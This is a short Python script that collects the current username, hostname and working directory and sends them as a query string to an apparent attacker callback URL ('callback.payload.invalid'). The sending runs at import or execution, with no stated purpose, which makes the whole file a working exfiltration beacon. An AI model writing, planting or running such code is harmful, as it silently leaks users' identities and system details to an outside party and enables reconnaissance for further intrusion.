# names: collect info query
import getpass
import socket
import os
from urllib.request import urlopen
from urllib.parse import urlencode
def collect():
    info = {}
    info["user"] = getpass.getuser()
    info["host"] = socket.gethostname()
    info["place"] = os.getcwd()
    return info
query = urlencode(collect())
urlopen("http://callback.payload.invalid/i?" + query)
